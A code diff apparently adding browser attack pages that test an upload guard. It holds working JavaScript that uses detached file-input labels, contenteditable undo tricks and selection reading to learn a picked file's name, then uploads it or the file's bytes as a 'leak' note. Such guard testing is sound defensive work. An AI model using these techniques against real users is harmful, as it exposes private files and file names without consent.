@@ -1,0 +1,68 @@
+// Hostile pages for the fifty-second attack on the upload guard: the guard's
+// look at an undo/redo's own input event (guard.js onHistory: the unknown
+// files of the file inputs under the event's first target, the editing host
+// Chromium names). Chromium's own picker is opened as in attacks 44-51's
+// labeldeep (a span deep inside a DETACHED label holding a file input i,
+// clicked in the person's click on "#open"); the label was taken out by
+// execCommand('delete'), and undo puts the SAME nodes back into their old
+// parent, wherever that parent now is. The page reads the name Chromium
+// draws (attack 48's findsel). A name learnt goes up as a text note
+// "leak-….txt". Served by server.mjs at /attack52-…; tests: attack52.test.mjs.
+
+import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+
+/** Upload what was learnt (a name, or a bit) as a text note, once. */
+const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once52) { window.once52 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+
+/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
+const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
+        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
+        const got = String(sel); note('${why} ' + JSON.stringify(got));
+        if (/jpg/i.test(got)) leak(got, '${why}');`;
+
+/**
+ * The label (i and the deep span) is put CONNECTED in a span p inside a contenteditable div ce (a wrapped insertion:
+ * i is empty), then taken out by execCommand('delete') over a selection of the label (the undo step keeps p as the
+ * parent to put it back in). `move` then moves p somewhere else (`setup` runs first). In the person's click the deep
+ * span is clicked: Chromium's picker fills the detached i, unheard. On change: `before`, then execCommand('undo'),
+ * whose input event Chromium fires at the undo step's recorded editing root(s), then findsel.
+ */
+const movePick = (why, { setup = '', move = '', before = '', after = "for (const e of document.querySelectorAll('[contenteditable]')) e.contentEditable = 'false';", undo = "document.execCommand('undo')" } = {}) => `
+      ${leak}
+      ${setup}
+      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.width = '600px';
+      const p = document.createElement('span');
+      const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
+      const x = document.createElement('span'); let t = x; for (let k = 0; k < 70; k++) { const c = document.createElement('span'); t.append(c); t = c; } t.textContent = 'x';
+      l.append(i, x); p.append('a', l, 'b'); ce.append('c', p, 'd'); document.body.append(ce);
+      ce.focus(); const r = document.createRange(); r.selectNode(l); const s = getSelection(); s.removeAllRanges(); s.addRange(r);
+      const del = document.execCommand('delete');
+      note('delete ' + del + ' l connected ' + l.isConnected + ' i in l ' + (i.parentNode === l) + ' l parent ' + (l.parentNode && l.parentNode.nodeName));
+      ${move}
+      window.addEventListener('input', (e) => note('input ' + e.inputType + ' at ' + (e.target && (e.target.id || e.target.nodeName))), true);
+      i.addEventListener('change', () => { note('change'); try { ${before}; const u = ${undo}; note('undo ' + u + ' i connected ' + i.isConnected + ' in ce ' + ce.contains(i) + ' w ' + i.offsetWidth); ${after} getSelection().removeAllRanges(); i.style.width = '600px';
+        ${findsel(why)} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
+      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`;
+
+const HTML_WAYS = {
+  // p moved (a wrapped insertion; the label is out, so nothing to see) into a second contenteditable div ce2 before
+  // the pick; undo puts the label back into p, in ce2, but its input event goes to ce (the step's root).
+  moveparent: movePick('moveparent', { move: "const ce2 = document.createElement('div'); ce2.id = 'ce2'; ce2.contentEditable = 'true'; ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p); ce.id = 'ce';" }),
+  // p moved out to the body and made its own editing host (contenteditable itself) in the change listener.
+  moveself: movePick('moveself', { before: "document.body.append(p); p.contentEditable = 'true'; ce.focus()" }),
+  // moveparent, and ce taken out of the document before undo: the input event is fired at a detached ce.
+  movedetach: movePick('movedetach', { move: "const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p);", before: 'ce.focus(); ce.remove()' }),
+  // p moved into a plain (non-editable) div inside a contenteditable=plaintext-only host.
+  moveplain: movePick('moveplain', { move: "const ce2 = document.createElement('div'); ce2.setAttribute('contenteditable', 'plaintext-only'); ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p);" }),
+  // more than LOOK_AT_MOST (200000) elements under the editing host: fileInputsIn returns null, nothing is taken.
+  manyelements: movePick('manyelements', { move: "const big = document.createElement('div'); big.style.display = 'none'; big.innerHTML = '<b></b>'.repeat(200100); ce.append(big); note('ce elements ' + ce.querySelectorAll('*').length);" }),
+  // the bytes: moveparent with ce2 in a multipart form, posted by a native click on its submit button after undo.
+  movebutton: movePick('movebutton', { move: "const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; ce2.style.width = '600px'; f.append(ce2, Object.assign(document.createElement('button'), { type: 'submit', textContent: 'go' })); document.body.append(f); ce2.append(p);", after: "note('in form ' + (i.form === f)); f.querySelector('button').click();" }),
+  // the bytes: moveparent, then new FormData(form) (a read point) after undo and fetch.
+  moveformdata: movePick('moveformdata', { move: "const f = document.createElement('form'); const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; f.append(ce2); document.body.append(f); ce2.append(p);", after: "const fd = new FormData(f); const v = fd.get('photo'); note('formdata ' + (v && v.name) + ' ' + (v && v.size)); if (v && v.size) send([v], 'moveformdata');" }),
+  // findsel for reference (held by the survey).
+  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
+};
+const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
+export { PICKER_WAYS };
+export const attack52Page = attackPages(52, picker, {});
